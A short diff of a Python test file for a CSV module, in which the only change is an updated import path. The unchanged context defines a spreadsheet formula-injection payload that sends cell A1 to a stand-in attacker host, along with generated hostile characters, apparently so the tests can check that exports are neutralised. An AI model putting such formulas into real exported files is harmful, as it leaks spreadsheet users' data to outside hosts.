@@ -15,7 +15,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from linkwright.csv_text import CsvError, csv_records, csv_rows, csv_text
+from linkwright.text.csv_text import CsvError, csv_records, csv_rows, csv_text
 
 LINK = '=HYPERLINK("http://evil.example/"&A1,"Click")'
 HOSTILE = st.text(alphabet="=+-@\t\r\n' ＝\"',;1.5eA", max_size=8)
